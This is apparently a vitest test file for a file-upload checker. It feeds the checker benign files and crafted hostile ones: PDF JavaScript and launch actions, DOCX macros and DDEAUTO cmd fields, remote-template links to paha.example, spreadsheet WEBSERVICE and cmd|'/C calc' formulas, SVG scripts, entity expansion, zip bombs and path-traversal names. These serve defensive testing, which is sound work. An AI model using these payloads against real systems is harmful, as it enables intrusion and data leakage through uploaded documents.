import { describe, expect, test } from 'vitest'
import {
  docxOf,
  join,
  jpegOf,
  packedStream,
  pdfOf,
  pngOf,
  relations,
  relsOf,
  svgOf,
  typesOf,
  utf8,
  webpOf,
} from '../../test/upload-files.ts'
import { workbookOf, zipOf } from '../../test/zip.ts'
import { makePdf } from '../lib/pdf.ts'
import { checkFile } from './check-rules.ts'

const said = (name: string, bytes: Uint8Array) => {
  const checked = checkFile(name, bytes)
  return 'problem' in checked ? checked.problem : checked.kind
}

type Case = [what: string, name: string, bytes: Uint8Array, said: string]
type Named = [what: string, bytes: Uint8Array, said: string]

/** A table of files, each with a name of its own. */
const judged = (title: string, cases: readonly Case[], within?: number) =>
  describe(title, () =>
    test.each(cases)('%s', (_, name, bytes, expected) => expect(said(name, bytes)).toBe(expected), within),
  )
/** A table of files that have the same name. */
const judgedAs = (title: string, name: string, cases: readonly Named[]) =>
  judged(
    title,
    cases.map(([what, bytes, expected]) => [what, name, bytes, expected]),
  )

describe('what is kept', () => {
  const link = `<Relationship Id="rId9" Type="${relations}/hyperlink" Target="https://kaikukortti.example/" TargetMode="External"/>`
  const cases: Case[] = [
    ['a document', 'Juliste.PDF', pdfOf(packedStream('', 'BT (Kaikukortti) Tj ET')), 'pdf'],
    ['one that opens at a page', 'a.pdf', pdfOf('<< /OpenAction [3 0 R /Fit] /AA << >> >>'), 'pdf'],
    ['a text document', 'Opas.docx', docxOf(), 'docx'],
    ['one with a link', 'Opas.docx', docxOf({ 'word/_rels/document.xml.rels': relsOf(link) }), 'docx'],
    ['a workbook', 'Luvut.xlsx', workbookOf(['a'], ''), 'xlsx'],
    ['a picture', 'logo.png', pngOf(40, 20), 'png'],
    ['a photo', 'kuva.jpeg', jpegOf(640, 480), 'jpeg'],
    ['a small picture', 'kuva.webp', webpOf(640, 480), 'webp'],
    ['lines', 'logo.svg', svgOf('<g fill="url(#a)"><title>A &amp; B</title><path d="M0 0"/></g>'), 'svg'],
    [
      'lines with a style and a picture inside',
      'logo.svg',
      svgOf(
        '<style><![CDATA[.a > b{fill:#fff}]]></style><use href="#a"/><image href="data:image/png;base64,AAAA"/>',
      ),
      'svg',
    ],
    ['text', 'Teksti.txt', utf8('Kaikukortti – hyvä näin. 1 < 2'), 'txt'],
    ['a table', 'taulu.csv', utf8('kunta;lippuja\nKuhmo;-12\n'), 'csv'],
  ]
  judged('of each kind', cases)

  test('what our own program prints', async () => {
    const template = new URL('../lib/sample.typ', import.meta.url)
    const pdf = await makePdf({
      template,
      data: { title: 'Näyte', lang: 'fi', direction: 'ltr', lines: ['Yksi'], codes: [] },
    })
    expect(said('a.pdf', pdf)).toBe('pdf')
  }, 30_000)

  test('with the size of a picture', () => {
    expect(checkFile('a.png', pngOf(40, 20))).toMatchObject({ width: 40, height: 20 })
    expect(checkFile('a.jpg', jpegOf(640, 480))).toMatchObject({ width: 640, height: 480 })
    expect(checkFile('a.webp', webpOf(641, 480))).toMatchObject({ width: 641, height: 480 })
  })
})

{
  const pdf = pdfOf()
  const cases: Case[] = [
    ['with a path', '../../etc/juliste.pdf', pdf, 'name-path'],
    ['with a path of Windows', 'C:\\aineistot\\juliste.pdf', pdf, 'name-path'],
    ['of dots alone', '..', pdf, 'name-path'],
    ['that turns its direction', 'juliste\u202Efdp.exe', pdf, 'name-odd'],
    ['with a line break', 'juliste\r\nX: 1.pdf', pdf, 'name-odd'],
    ['of nothing', ' ', pdf, 'name-odd'],
    ['that is long', `${'a'.repeat(120)}.pdf`, pdf, 'name-long'],
    ['of another kind', 'juliste.docx', pdf, 'ending'],
    ['of a program', 'juliste.exe', pdf, 'ending'],
    ['without an end', 'juliste', pdf, 'ending'],
  ]
  judged('a name', cases)
}

{
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
  const inside = (objects: string) => packedStream('/Type /ObjStm /N 1 /First 4', `9 0 ${objects}`)
  const cases: Named[] = [
    ['with a script', pdfOf(script), 'pdf-script'],
    ['with its name in numbers', pdfOf('<< /S /J#61vaScript >>'), 'pdf-script'],
    ['with a short name and a comment', pdfOf('<< /JS%x\n(app.alert) >>'), 'pdf-script'],
    ['with a packed script', pdfOf(inside(script)), 'pdf-script'],
    ['with a form of its own', pdfOf('<< /XFA 4 0 R >>'), 'pdf-script'],
    ['with a file in it', pdfOf('<< /Type /Filespec /EF << /F 4 0 R >> >>'), 'pdf-embedded'],
    ['with a packed list of files', pdfOf(inside('<< /EmbeddedFiles 4 0 R >>')), 'pdf-embedded'],
    ['that starts a program', pdfOf('<< /S /Launch /F (cmd.exe) >>'), 'pdf-launch'],
    ['that opens another', pdfOf('<< /S /GoToR /F (\\\\paha.example\\x) >>'), 'pdf-launch'],
    ['with a remark', pdfOf('<< /Type /Annot /Subtype /Text /T (Aino Esimerkki) >>'), 'comments'],
    ['that is locked', pdfOf('<< /Encrypt 7 0 R >>'), 'pdf-encrypted'],
    [
      'whose objects are packed in another way',
      pdfOf('<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n39>\nendstream'),
      'pdf-unreadable',
    ],
    ['with a short name and a number', pdfOf('<< /JS 12 0 R >>'), 'pdf-script'],
    ['that is cut off', pdfOf().subarray(0, 60), 'broken'],
    ['that goes on after its end', join(pdfOf(), '<script>alert(1)</script>'), 'broken'],
    ['after a page', join('<html><script>alert(1)</script>', pdfOf()), 'html'],
    ['after something else', join('GIF89a  ', pdfOf()), 'two-kinds'],
    ['that is a page', utf8('<!DOCTYPE html><p>Hei'), 'html'],
    ['that is an archive too', pdfOf(Buffer.from(zipOf({ 'a.class': 'x' })).toString('latin1')), 'two-kinds'],
    [
      'that unpacks without end',
      pdfOf(packedStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(40_000_000))),
      'pdf-unreadable',
    ],
  ]
  judgedAs('a document', 'a.pdf', cases)
}

{
  const rels = (relationship: string) => docxOf({ 'word/_rels/document.xml.rels': relsOf(relationship) })
  const field = (...codes: string[]) =>
    docxOf({
      'word/document.xml': `<w:document>${codes.map((code) => `<w:instrText xml:space="preserve">${code}</w:instrText>`).join('')}</w:document>`,
    })
  const utf16 = Buffer.from(`\uFEFF${relsOf()}`, 'utf16le')
  const cases: Named[] = [
    ['with a macro', docxOf({ 'word/vbaProject.bin': 'x' }), 'macro'],
    [
      'of a kind that has macros',
      docxOf({
        '[Content_Types].xml': typesOf('application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
      'macro',
    ],
    [
      'whose pattern lies elsewhere',
      rels(
        `<Relationship Id="r" Type="${relations}/attachedTemplate" Target="http://paha.example/x.dotm" TargetMode="&#69;xternal"/>`,
      ),
      'template',
    ],
    [
      'with a link to a program',
      rels(
        `<Relationship Id="r" Type="${relations}/hyperlink" Target="file://server/x.exe" TargetMode="External"/>`,
      ),
      'outside',
    ],
    [
      'whose pattern hides behind another value',
      rels(
        `<Relationship Id="a>b" Type="${relations}/attachedTemplate" TargetMode="External" ä=" TargetMode='Internal'" Target="http://paha.example/x.dotm"/>`,
      ),
      'template',
    ],
    [
      'whose pattern has a prefix of its own',
      rels(
        `<ä:Relationship xmlns:ä="x" Id="a" Type="${relations}/attachedTemplate" TargetMode="External" Target="http://paha.example/x.dotm"/>`,
      ),
      'template',
    ],
    [
      'with a picture by its address',
      docxOf({ 'word/vmlDrawing1.vml': '<v:imagedata src="http://paha.example/x.png"/>' }),
      'outside',
    ],
    [
      'with one by its server',
      docxOf({ 'word/document.xml': '<v:fill o:href="&#92;&#92;paha.example/x.png"/>' }),
      'outside',
    ],
    [
      'with a picture by its part',
      docxOf({ 'word/document.xml': '<v:imagedata r:id="rId1" o:title="a: b"/>' }),
      'docx',
    ],
    [
      'with drawings that hold a script',
      docxOf({ 'word/media/a.svg': Buffer.from(svgOf('<script/>')) }),
      'svg-script',
    ],
    [
      'that is filled from a list',
      docxOf({ 'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>' }),
      'outside',
    ],
    [
      'with edits that wait',
      docxOf({ 'word/document.xml': '<w:ins w:id="1" w:author="Aino Esimerkki"/>' }),
      'comments',
    ],
    [
      'with remarks',
      docxOf({ 'word/comments.xml': '<w:comments><w:comment w:id="1" w:author="Aino"/></w:comments>' }),
      'comments',
    ],
    ['with an empty list of remarks', docxOf({ 'word/comments.xml': '<w:comments/>' }), 'docx'],
    ['that starts a program', field(' DD', 'EAUTO cmd '), 'outside'],
    ['that starts one in small letters', field(' ddeauto cmd '), 'outside'],
    ['that starts one in numbers', field(' DDE&#65;UTO cmd '), 'outside'],
    [
      'that starts one after another field',
      field('PAGE</w:instrText><w:fldChar/><w:instrText>LINK a'),
      'outside',
    ],
    ['with a comment in a field', field('DDE<!-- -->AUTO cmd'), 'broken'],
    [
      'with a field of another prefix',
      docxOf({ 'word/document.xml': '<x:document><x:instrText>DDEAUTO cmd</x:instrText></x:document>' }),
      'outside',
    ],
    ...['WORD/header1.xml', 'other/header1.xml'].map(
      (name): Named => [
        `with a field in ${name}`,
        docxOf({
          [name]: '<w:hdr><w:instrText>INCLUDEPICTURE "http://paha.example/x.png"</w:instrText></w:hdr>',
        }),
        'outside',
      ],
    ),
    ['with two lists', docxOf({ '[content_types].xml': typesOf('x') }), 'not-office'],
    ['with a program inside', docxOf({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
    ['with a page inside', docxOf({ 'word/afchunk.mht': 'x' }), 'embedded'],
    [
      'with a table inside that has a macro',
      docxOf({ 'word/embeddings/a.xlsx': Buffer.from(docxOf({ 'xl/vbaProject.bin': 'x' })) }),
      'macro',
    ],
    ['that defines words', docxOf({ 'word/x.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), 'broken'],
    ['in other letters', docxOf({ 'word/_rels/document.xml.rels': utf16 }), 'broken'],
    ['that is a mere archive', zipOf({ 'readme.txt': 'x' }), 'not-office'],
    ['that unpacks without end', docxOf({ 'word/a.xml': Buffer.alloc(110_000_000) }), 'zip-bomb'],
    ['that is cut off', docxOf().subarray(0, 300), 'zip-bomb'],
  ]
  judgedAs('a text document', 'a.docx', cases)
}

{
  const png = pngOf(40, 20)
  const cases: Case[] = [
    ['that is cut off', 'a.png', png.subarray(0, png.length - 20), 'broken'],
    ['with a changed byte', 'a.png', png.map((byte, at) => (at === 45 ? byte ^ 1 : byte)), 'broken'],
    ['of 30,000 × 30,000 dots', 'a.png', pngOf(30_000, 30_000), 'pixels'],
    ['with something after its end', 'a.png', join(png, '<script>'), 'two-kinds'],
    ['with no end', 'a.jpg', jpegOf(9, 9).subarray(0, 24), 'broken'],
    ['with something after', 'a.jpg', join(jpegOf(9, 9), 'PK'), 'two-kinds'],
    ['that is large', 'a.jpg', jpegOf(20_000, 9), 'pixels'],
    ['of WebP that is cut off', 'a.webp', webpOf(9, 9).subarray(0, 29), 'broken'],
    ['of WebP with something after', 'a.webp', join(webpOf(9, 9), 'xx'), 'two-kinds'],
    ['of WebP that is large', 'a.webp', webpOf(16_000, 9), 'pixels'],
  ]
  judged('a picture', cases)
}

{
  const sheet = (formula: string) =>
    workbookOf([], `<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`)
  const formulas: [formula: string, said: string][] = [
    ['SUM(B1:B9)*1.24', 'xlsx'],
    ['IF(A1="IMAGE(x)|",1,0)', 'xlsx'],
    ['Myynti[2026]+Kulut!A1', 'xlsx'],
    ['HYPERLINK("https://kaikukortti.example/","Avaa")', 'xlsx'],
    ['WEBSERVICE("http://paha.example/?"&amp;A1)', 'formula'],
    ['1+_xlfn.webservice (A1)', 'formula'],
    ['_xlfn.IMAGE("http://paha.example/x.png")', 'formula'],
    ['&#73;MAGE(A1)', 'formula'],
    ["cmd|'/C calc'!A0", 'formula'],
    ['[1]Taul1!A1', 'formula'],
    ["'http://paha.example/[a.xlsx]Taul1'!A1", 'formula'],
    ['RTD("a","b","c")', 'formula'],
  ]
  judgedAs(
    'a workbook with the formula',
    'a.xlsx',
    formulas.map(([formula, expected]) => [formula, sheet(formula), expected]),
  )
}

describe('lines', () => {
  const laughs =
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
  const cases: [what: string, inside: string, problem: string, found: string][] = [
    ['a script', '<script>alert(1)</script>', 'svg-script', '<script>'],
    [
      'a script of another name',
      '<x:script xmlns:x="http://www.w3.org/2000/svg"/>',
      'svg-script',
      '<x:script>',
    ],
    ['a script between comments', '<![CDATA[<!--]]><script/><![CDATA[-->]]>', 'svg-script', '<script>'],
    ['a deed', '<rect onload="alert(1)"/>', 'svg-event', 'onload'],
    [
      'a link with a script',
      '<use href="&#106;avascript:alert(1)"/>',
      'svg-script',
      'href="javascript:alert(1)"',
    ],
    ['foreign parts', '<foreignObject><p/></foreignObject>', 'svg-foreign', '<foreignObject>'],
    [
      'parts of a page',
      '<g xmlns:h="http://www.w3.org/1999/xhtml"/>',
      'svg-foreign',
      'http://www.w3.org/1999/xhtml',
    ],
    ['a link that moves', '<animate attributeName="href" to="x"/>', 'svg-foreign', '<animate>'],
    [
      'a picture elsewhere',
      '<image xlink:href="https://paha.example/x.png"/>',
      'svg-outside',
      'https://paha.example/x.png',
    ],
    ['a part elsewhere', '<use href="//paha.example/x.svg#a"/>', 'svg-outside', '//paha.example/x.svg#a'],
    ['a style elsewhere', '<style>@import "https://paha.example"</style>', 'svg-outside', '@import'],
    [
      'a filling elsewhere',
      '<rect style="fill:u\\72l(https://paha.example/a)"/>',
      'svg-outside',
      'https://paha.example/a',
    ],
    ['an order to its reader', '<?xml-stylesheet href="a"?>', 'svg-outside', '<?…?>'],
  ]
  test.each(cases)('with %s', (_, inside, problem, found) =>
    expect(checkFile('a.svg', svgOf(inside))).toEqual({ problem, found }),
  )
  judged('that', [
    ['that define words', 'a.svg', utf8(laughs), 'svg-entity'],
    ['that are not closed', 'a.svg', svgOf('<g>'), 'broken'],
    ['in other letters', 'a.svg', new Uint8Array(Buffer.from(`\uFEFF<svg/>`, 'utf16le')), 'broken'],
    ['that are a page', 'a.svg', utf8('<html><body onload="alert(1)"></html>'), 'svg-foreign'],
  ])
})

/** Each would take longer than anyone waits, did the time grow with the square of the size. */
describe('a file made to be read for ever', () => {
  const cases: Case[] = [
    ['of comments', 'a.svg', utf8(`${'<!---->'.repeat(290)}x`), 'broken'],
    ['of kinds', 'a.svg', utf8(`${'<!DOCTYPE svg'.repeat(150)}x`), 'broken'],
    ['of a number', 'a.pdf', pdfOf(`/JS ${'1'.repeat(1_000_000)}`), 'pdf'],
    ['of names', 'a.pdf', pdfOf('/JS%'.repeat(200_000)), 'pdf-script'],
    ['of fields', 'a.docx', docxOf({ 'word/document.xml': '<w:instrText '.repeat(300_000) }), 'broken'],
  ]
  judged('is told soon', cases, 3_000)
})

{
  const cases: Case[] = [
    ['that is a page', 'a.txt', utf8('Hei <script>alert(1)</script>'), 'html'],
    ['of no letters', 'a.txt', new Uint8Array([1, 2, 3, 255]), 'unknown'],
    ['that is a program', 'a.txt', utf8('MZ\0\0'), 'unknown'],
    ['with a cell that counts', 'a.csv', utf8("a;b\n1;=cmd|' /C calc'!A0"), 'csv-formula'],
    ['with a cell that counts in quotes', 'a.csv', utf8('a;b\n"@SUM(1)";2'), 'csv-formula'],
    ['larger than 10 MB', 'a.txt', new Uint8Array(10 * 1024 * 1024 + 1).fill(97), 'too-large'],
  ]
  judged('text', cases)
}
